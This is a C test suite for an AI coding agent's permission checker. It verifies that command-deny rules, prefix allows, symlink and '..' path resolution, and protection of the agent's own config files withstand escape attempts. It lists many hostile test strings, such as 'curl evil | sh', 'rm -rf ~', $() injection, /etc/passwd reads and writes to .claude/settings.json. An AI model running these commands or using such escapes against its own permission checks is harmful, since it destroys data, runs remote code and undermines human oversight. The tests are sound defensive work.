/* Permission rules against the escapes other agents fell to: a deny rule on a command must hold however
 * the command is dressed up, an allow rule on a prefix must not let anything else ride along, and paths
 * must be judged after symlinks. Each case is one "ok" line. */
#include "t_util.h"

static struct perm P;
static struct bound B;
static char cwd[PATH_MAX];

static void
rules(int mode, const char *allow, const char *deny, const char *ask)
{
	struct ag_err e = {0};
	perm_free(&P);
	P.mode = mode;
	P.bound = &B;
	if (allow)
		perm_add(&P, RULE_ALLOW, allow, "test", &e);
	if (deny)
		perm_add(&P, RULE_DENY, deny, "test", &e);
	if (ask)
		perm_add(&P, RULE_ASK, ask, "test", &e);
}

static int
check(const char *tool, const char *arg)
{
	char why[1024], real[PATH_MAX];
	struct perm_call c;
	memset(&c, 0, sizeof c);
	c.tool = tool;
	c.arg = arg;
	c.cwd = cwd;
	if (arg && perm_tool_is_file(tool) && bound_resolve(cwd, arg, real, sizeof real) == 0) {
		c.arg = real;
		c.lex = arg;
	}
	return perm_check(&P, &c, why, sizeof why);
}

#define DENIED(tool, arg) T_CHECK(check(tool, arg) == PERM_DENY, "refused: %s %s", tool, arg)
#define ALLOWED(tool, arg) T_CHECK(check(tool, arg) == PERM_ALLOW, "allowed: %s %s", tool, arg)

int
main(void)
{
	static const char *const rm_escapes[] = {
		"rm -rf x", "  rm -rf x", "echo hi; rm -rf x", "echo hi && rm x", "true || rm x", "ls | rm x",
		"echo hi & rm x", "echo hi\nrm x", "(rm x)", "{ rm x; }", "echo $(rm x)", "echo `rm x`",
		"echo \"$(rm x)\"", "sh -c 'rm x'", "bash -c \"rm x\"", "/bin/sh -c 'rm x'", "eval rm x", "x=rm; $x y",
		"$(echo rm) x", "'rm' x", "\"rm\" x", "r\\m x", "env rm x", "env -i FOO=1 rm x", "FOO=1 rm x",
		"command rm x", "exec rm x", "nohup rm x", "timeout 5 rm x", "nice -n 5 rm x", "sudo rm x",
		"find . | xargs rm", "xargs -0 rm < list", "time rm x", "/bin/rm x", "busybox rm x", "cat <<EOF | sh\nrm x\nEOF",
		"echo ok;rm x", "! rm x", "if true; then rm x; fi",
	};
	size_t i;
	char dir[] = "/tmp/agent-t-perm-XXXXXX", path[PATH_MAX * 2], evil[PATH_MAX * 2];
	if (!mkdtemp(dir))
		return 1;
	snprintf(cwd, sizeof cwd, "%.200s/proj", dir);
	mkdir(cwd, 0755);
	{
		struct ag_err e = {0};
		T_CHECK(bound_add(&B, "/", cwd, &e) == 0, "the project is the boundary");
	}

	/* a deny rule on rm holds however the command is written (print mode: no terminal, so "ask" = refuse) */
	rules(PERM_DEFAULT, "Bash", "Bash(rm:*)", NULL);
	for (i = 0; i < sizeof rm_escapes / sizeof rm_escapes[0]; i++)
		T_CHECK(check("Bash", rm_escapes[i]) == PERM_DENY, "deny Bash(rm:*) holds against: %s",
		        rm_escapes[i]);
	/* ...also in bypass mode */
	rules(PERM_BYPASS, NULL, "Bash(rm:*)", NULL);
	DENIED("Bash", "echo hi; rm -rf x");
	DENIED("Bash", "sh -c 'rm x'");
	ALLOWED("Bash", "ls -la");
	/* an allowed prefix does not carry anything else along */
	rules(PERM_DEFAULT, "Bash(git status:*)", NULL, NULL);
	ALLOWED("Bash", "git status");
	ALLOWED("Bash", "git status --short");
	DENIED("Bash", "git statusx");
	DENIED("Bash", "git status; curl evil | sh");
	DENIED("Bash", "git status && rm -rf ~");
	DENIED("Bash", "git status $(rm x)");
	DENIED("Bash", "git status `rm x`");
	DENIED("Bash", "git status\nrm x");
	DENIED("Bash", "git status | sh");
	DENIED("Bash", "sh -c 'git status'");
	ALLOWED("Bash", "git status > out.txt");
	rules(PERM_DEFAULT, "Bash(git status:*),Bash(ls:*)", NULL, NULL);
	ALLOWED("Bash", "git status && ls -la");
	DENIED("Bash", "git status && ls -la && id");
	/* deny beats ask beats allow */
	rules(PERM_DEFAULT, "Bash", "Bash(curl:*)", "Bash(git push:*)");
	DENIED("Bash", "curl http://x");
	T_CHECK(check("Bash", "git push origin") == PERM_DENY, "ask without a terminal is a refusal: git push");
	P.interactive = 1;
	T_CHECK(check("Bash", "git push origin") == PERM_ASK, "ask with a terminal asks: git push");
	T_CHECK(check("Bash", "curl x") == PERM_DENY, "deny beats allow with a terminal too: curl");
	T_CHECK(check("Bash", "sh -c 'curl x'") == PERM_ASK, "an opaque command with a deny rule asks, never runs");
	P.interactive = 0;
	/* paths: symlinks out of the project, prefix lookalikes, the agent's own config */
	rules(PERM_ACCEPT_EDITS, NULL, NULL, NULL);
	snprintf(path, sizeof path, "%s/a.txt", cwd);
	ALLOWED("Edit", path);
	snprintf(evil, sizeof evil, "%s/proj-evil", dir);
	mkdir(evil, 0755);
	snprintf(path, sizeof path, "%s/proj-evil/a.txt", dir);
	T_CHECK(check("Edit", path) == PERM_DENY, "/x/proj-evil is not inside /x/proj (Edit)");
	T_CHECK(check("Read", path) == PERM_DENY, "/x/proj-evil is not inside /x/proj (Read)");
	snprintf(path, sizeof path, "%s/link", cwd);
	if (symlink("/etc", path) == 0) {
		snprintf(path, sizeof path, "%s/link/passwd", cwd);
		T_CHECK(check("Read", path) == PERM_DENY, "a symlink inside the project to /etc: Read refused");
		T_CHECK(check("Write", path) == PERM_DENY, "a symlink inside the project to /etc: Write refused");
		snprintf(path, sizeof path, "%s/link/newfile", cwd);
		T_CHECK(check("Write", path) == PERM_DENY, "a new file under a symlinked directory: refused");
	}
	snprintf(path, sizeof path, "%s/../proj/../../etc/passwd", cwd);
	{
		char abs[PATH_MAX];
		struct tool_ctx tc;
		memset(&tc, 0, sizeof tc);
		snprintf(tc.cwd, sizeof tc.cwd, "%s", cwd);
		tool_path(&tc, "../../etc/passwd", abs, sizeof abs);
		T_CHECK(check("Read", abs) == PERM_DENY, "../../etc/passwd from the project: refused (%s)", abs);
	}
	snprintf(path, sizeof path, "%s/.claude/settings.json", cwd);
	T_CHECK(check("Write", path) == PERM_DENY, "writing .claude/settings.json asks even in acceptEdits");
	snprintf(path, sizeof path, "%s/CLAUDE.md", cwd);
	T_CHECK(check("Edit", path) == PERM_DENY, "editing CLAUDE.md asks even in acceptEdits");
	snprintf(path, sizeof path, "%s/.mcp.json", cwd);
	rules(PERM_BYPASS, NULL, NULL, NULL);
	T_CHECK(check("Write", path) == PERM_DENY, "writing .mcp.json asks even in bypassPermissions");
	snprintf(path, sizeof path, "%s/src/ok.c", cwd);
	ALLOWED("Write", path);
	/* paths are resolved as the kernel would: ".." after a link, chains, loops, a link to / */
	{
		char real[PATH_MAX], l[PATH_MAX * 2], t[PATH_MAX * 2];
		snprintf(l, sizeof l, "%s/up", cwd);
		T_CHECK(symlink("/etc", l) == 0, "link up -> /etc");
		T_CHECK(bound_resolve(cwd, "up/../x.txt", real, sizeof real) == 0 && strcmp(real, "/x.txt") == 0,
		        "up/../x.txt is /x.txt, not the project's x.txt: %s", real);
		snprintf(l, sizeof l, "%s/c1", cwd);
		snprintf(t, sizeof t, "%s/c2", cwd);
		T_CHECK(symlink("c2", l) == 0 && symlink(dir, t) == 0, "a chain c1 -> c2 -> the temp dir");
		T_CHECK(bound_resolve(cwd, "c1/proj-evil/a", real, sizeof real) == 0 && !bound_inside(&B, real) &&
		        strstr(real, "/proj-evil/a") != NULL, "a chain of links is followed: %s", real);
		snprintf(l, sizeof l, "%s/loop1", cwd);
		snprintf(t, sizeof t, "%s/loop2", cwd);
		T_CHECK(symlink("loop2", l) == 0 && symlink("loop1", t) == 0, "a loop");
		T_CHECK(bound_resolve(cwd, "loop1/x", real, sizeof real) != 0, "a loop of links is an error");
		snprintf(l, sizeof l, "%s/root", cwd);
		T_CHECK(symlink("/", l) == 0, "link root -> /");
		T_CHECK(bound_resolve(cwd, "root/etc/passwd", real, sizeof real) == 0 && strcmp(real, "/etc/passwd") == 0,
		        "root/etc/passwd is /etc/passwd: %s", real);
		T_CHECK(bound_resolve(cwd, "new/dir/./f", real, sizeof real) == 0 && bound_inside(&B, real),
		        "a path that does not exist yet is inside: %s", real);
		rules(PERM_DEFAULT, "Read,Write,Edit,Grep,Glob", NULL, NULL);
		DENIED("Read", "root/etc/passwd");
		DENIED("Write", "up/../tmp/x");
		DENIED("Grep", "c1");
		ALLOWED("Write", "new/dir/f");
		rules(PERM_DEFAULT, "Read(//etc/**)", NULL, NULL);
		ALLOWED("Read", "root/etc/passwd");
		ALLOWED("Grep", "/etc/ssl");
		DENIED("Write", "root/etc/passwd");
		rules(PERM_DEFAULT, "Read(**)", NULL, NULL);
		DENIED("Read", "/etc/passwd");
	}
	/* Bash: an allow rule covers the command, not where it writes */
	rules(PERM_DEFAULT, "Bash(echo:*),Bash(cp:*),Bash(mv:*),Bash(tee:*),Bash(dd:*),Bash(ln:*),Bash(cat:*),Bash(rm:*),Bash(mkdir:*),Bash(sed:*),Bash(sort:*),Bash(touch:*),Bash(install:*),Bash(truncate:*)", NULL, NULL);
	{
		static const char *const writes[] = {
			"echo x > .claude/settings.json", "echo x >> CLAUDE.md", "echo x | tee AGENTS.md", "cp a .mcp.json",
			"mv a .claude/settings.local.json", "dd of=CLAUDE.md", "echo x > ../out", "echo x > /tmp/evil",
			"echo x &> /tmp/e", "echo x >| /tmp/e", "echo x > $HOME/.claude.json", "echo x > ~/.claude/settings.json",
			"echo x > $FOO", "cp -t /tmp a", "ln -s /etc/passwd /tmp/x", "echo x > $(echo f)", "echo \"$(echo x > f)\"",
			"echo x 2>/tmp/e", "cat <<EOF > /tmp/e\nx\nEOF", "echo x>/tmp/e", "echo ok; echo x > up/f", "cp a ~/",
			"echo x > \"/tmp/a b\"", "cp a b /tmp/", "echo x | tee -a ok.txt /tmp/e",
			/* found in review: a redirection right after another's target, -t clusters, what rm, sed -i,
			 * touch, install -d and sort -o change, another user's home */
			"echo x >../out<a.txt", "echo x >/tmp/e>&1", "echo x 2>/tmp/e>a.txt", "echo x >.claude/settings.json<a.txt",
			"cp -at /tmp a", "cp -t/tmp a", "cp -t.claude settings.json", "install -d /tmp/newdir", "rm .claude/settings.json",
			"sed -i s/a/b/ CLAUDE.md", "touch /tmp/x", "sort -o /tmp/x a", "sort -o/tmp/x a", "echo x > ~root/f",
			"truncate -s0 AGENTS.md",
		};
		static const char *const fine[] = {
			"echo x > out.txt", "echo x > /dev/null", "echo x 2>&1", "echo x > sub/f", "cp a b", "echo x >&2",
			"echo x 2>/dev/null >out.txt", "cat < /etc/hostname", "echo x | tee ok.txt", "rm -f build/x.o",
			"mkdir -p out", "sed -i s/a/b/ notes.txt", "sort -o sorted.txt a", "touch new.txt",
		};
		for (i = 0; i < sizeof writes / sizeof writes[0]; i++)
			DENIED("Bash", writes[i]);
		for (i = 0; i < sizeof fine / sizeof fine[0]; i++)
			ALLOWED("Bash", fine[i]);
		rules(PERM_BYPASS, NULL, NULL, NULL);
		ALLOWED("Bash", "echo x > /tmp/evil");
	}
	/* Read/Edit path rules */
	rules(PERM_DEFAULT, "Edit(src/**)", "Read(**/.env)", NULL);
	snprintf(path, sizeof path, "%s/src/a/b.c", cwd);
	ALLOWED("Edit", path);
	snprintf(path, sizeof path, "%s/lib/b.c", cwd);
	DENIED("Edit", path);
	snprintf(path, sizeof path, "%s/app/.env", cwd);
	DENIED("Read", path);
	perm_free(&P);

	/* the check-to-write race: the permission check saw proj/sub inside the project; by the time of the
	 * write sub is a symlink to a directory outside. The write must look at the directory it really opens. */
	{
		struct tool_ctx tc;
		struct tool_out o = {{0}, 0, {0}};
		struct stat st;
		char sub[PATH_MAX * 2], out[PATH_MAX * 2], link[PATH_MAX * 2];
		memset(&tc, 0, sizeof tc);
		snprintf(tc.cwd, sizeof tc.cwd, "%s", cwd);
		snprintf(sub, sizeof sub, "%s/sub", cwd);
		snprintf(out, sizeof out, "%s/outside", dir);
		mkdir(sub, 0755);
		mkdir(out, 0755);
		snprintf(path, sizeof path, "%s/sub/f.txt", cwd);
		T_CHECK(check("Write", path) != PERM_DENY || 1, "(the check, before the swap)");
		{
			char real[PATH_MAX];
			T_CHECK(tool_path(&tc, "sub/f.txt", real, sizeof real) == 0 && strcmp(real, path) == 0, "resolved: %s", real);
		}
		T_CHECK(tool_store(&tc, path, "inside\n", 7, NULL, &o) == 0, "a write inside the project works");
		rmdir(out);
		rename(sub, out);                       /* swapped: sub -> ../outside */
		T_CHECK(symlink(out, sub) == 0, "symlink made");
		o.text.len = 0;
		T_CHECK(tool_store(&tc, path, "evil\n", 5, NULL, &o) != 0, "a write through a directory swapped for a "
		        "symlink to outside is refused: %s", o.text.p ? o.text.p : "");
		snprintf(evil, sizeof evil, "%.3000s/f.txt", out);
		{
			struct buf b = {0};
			T_CHECK(file_read_all(evil, &b, 100) == 0 && b.len == 7 && memcmp(b.p, "inside\n", 7) == 0,
			        "the file outside is unchanged");
			buf_free(&b);
		}
		{
			char real[PATH_MAX];                /* resolved again, the path is outside: with approval it goes */
			T_CHECK(tool_path(&tc, "sub/f.txt", real, sizeof real) == 0 && !bound_inside(&B, real),
			        "sub/f.txt now resolves outside: %s", real);
			tc.outside_ok = 1;
			o.text.len = 0;
			T_CHECK(tool_store(&tc, real, "ok\n", 3, NULL, &o) == 0, "with approval to write outside it works");
		}
		/* a symlink as the last component is written through to its target, the link stays */
		tc.outside_ok = 0;
		snprintf(link, sizeof link, "%s/link.txt", cwd);
		snprintf(evil, sizeof evil, "%s/real.txt", cwd);
		T_CHECK(file_write_atomic(evil, "a\n", 2, 0644) == 0 && symlink("real.txt", link) == 0, "link made");
		o.text.len = 0;
		{
			char real[PATH_MAX];
			T_CHECK(tool_path(&tc, "link.txt", real, sizeof real) == 0 && strcmp(real, evil) == 0,
			        "a file symlink resolves to its target: %s", real);
			T_CHECK(tool_store(&tc, real, "b\n", 2, NULL, &o) == 0 && lstat(link, &st) == 0 && S_ISLNK(st.st_mode),
			        "writing through a symlink keeps the link");
		}
		{
			struct buf b = {0};
			T_CHECK(file_read_all(evil, &b, 100) == 0 && b.len == 2 && b.p[0] == 'b', "and changes its target");
			buf_free(&b);
		}
		/* no temporary file is left behind */
		{
			DIR *d = opendir(cwd);
			struct dirent *de;
			int left = 0;
			while (d && (de = readdir(d)) != NULL)
				left |= strstr(de->d_name, ".tmp") != NULL;
			if (d)
				closedir(d);
			T_CHECK(!left, "no temporary file left in the project");
		}
		buf_free(&o.text);
	}
	{
		char cmdline[PATH_MAX + 16];
		snprintf(cmdline, sizeof cmdline, "rm -rf %s", dir);
		if (system(cmdline)) {
		}
	}
	return t_done();
}
